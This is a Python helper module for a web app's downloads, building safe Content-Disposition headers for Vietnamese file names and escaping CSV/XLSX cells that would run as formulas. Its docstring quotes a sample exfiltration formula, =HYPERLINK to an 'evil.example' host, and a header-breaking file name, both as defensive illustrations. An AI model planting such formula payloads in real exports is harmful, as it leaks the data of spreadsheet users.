"""What every file the app hands out goes through.

``content_disposition``: the ``Content-Disposition`` header of a download, RFC 6266 — the
real (Vietnamese) name as ``filename*=UTF-8''…`` and an ASCII ``filename="…"`` fallback
without quotes, semicolons or control characters. Headers are latin-1 on the wire: a raw
"QĐ" in ``filename="…"`` made gunicorn refuse the response, and a decision number such as
``78"; x=<b>/QD-UBND`` broke the header open.

``safe_cell`` / ``sheet_cell``: a text cell of a CSV or XLSX export that begins with
``= + - @``, a tab or a carriage return is written as text, never as a formula (a producer
named ``=HYPERLINK("http://evil.example/?leak",…)`` stays a name). CSV cells get the usual
leading apostrophe; XLSX cells keep their exact text, typed as a string with the
"quote prefix" flag Excel itself sets for text typed after an apostrophe.
"""
from __future__ import annotations

import re
import unicodedata
from urllib.parse import quote

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

_ASCII_UNSAFE = re.compile(r"[^A-Za-z0-9._ -]+")


def _printable(name: str) -> str:
    return "".join(" " if unicodedata.category(ch)[0] in "CZ" and ch != " " else ch
                   for ch in unicodedata.normalize("NFC", name)).strip()


def ascii_filename(name: str) -> str:
    """"Giấy chứng nhận 12/QĐ-UBND.zip" -> "Giay chung nhan 12-QD-UBND.zip"."""
    decomposed = unicodedata.normalize("NFD", name.replace("đ", "d").replace("Đ", "D"))
    plain = "".join(ch for ch in decomposed if not unicodedata.combining(ch))
    plain = _ASCII_UNSAFE.sub("-", plain.replace("/", "-").replace("\\", "-"))
    plain = re.sub(r"-{2,}", "-", plain).strip(" .-")
    return plain or "download"


def content_disposition(name: str, inline: bool = False) -> str:
    """The ``Content-Disposition`` value for a file named ``name``."""
    name = _printable(name).replace("/", "-").replace("\\", "-") or "download"
    kind = "inline" if inline else "attachment"
    return (f'{kind}; filename="{ascii_filename(name)}"; '
            f"filename*=UTF-8''{quote(name, safe='')}")


def is_formula_like(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_START)


def safe_cell(value):
    """A CSV cell: ``None`` as empty, text that a spreadsheet would run as a formula with a
    leading apostrophe, everything else as text."""
    text = "" if value is None else str(value)
    return "'" + text if is_formula_like(text) else text


def sheet_cell(ws, row: int, column: int, value=None):
    """``ws.cell(row, column, value)`` for openpyxl, except that text is always text."""
    cell = ws.cell(row=row, column=column)
    cell.value = value
    if is_formula_like(value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


# -- writing the files ---------------------------------------------------------------------------

XLSX_MIMETYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_MIMETYPE = "text/csv; charset=utf-8"
XLSX_ZIP_TIMESTAMP = (1980, 1, 1, 0, 0, 0)


def csv_text(rows) -> str:
    """Rows as CSV text: a BOM first (Excel reads UTF-8, so Vietnamese, only with it), every
    cell through ``safe_cell``."""
    import csv
    import io

    out = io.StringIO()
    out.write("\ufeff")
    writer = csv.writer(out)
    for row in rows:
        writer.writerow([safe_cell(v) for v in row])
    return out.getvalue()


def workbook_bytes(wb, patch: dict | None = None) -> bytes:
    """An openpyxl workbook as .xlsx bytes that depend on its content only: saved through
    ``ExcelWriter`` (``save_workbook()`` would stamp "modified" with the current time; set
    ``wb.properties.created``/``modified`` before), then the ZIP re-packed with fixed entry
    times and attributes in the same order (openpyxl stamps each entry with now).
    ``patch``: entry name -> a function of its bytes giving the bytes to store instead."""
    import io
    import zipfile

    from openpyxl.writer.excel import ExcelWriter

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive:
        ExcelWriter(wb, archive).save()
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as src, \
            zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as dst:
        for entry in src.infolist():
            info = zipfile.ZipInfo(entry.filename, date_time=XLSX_ZIP_TIMESTAMP)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.create_system = 3
            info.external_attr = 0o100644 << 16
            data = src.read(entry.filename)
            if patch and entry.filename in patch:
                data = patch[entry.filename](data)
            dst.writestr(info, data)
    return out.getvalue()
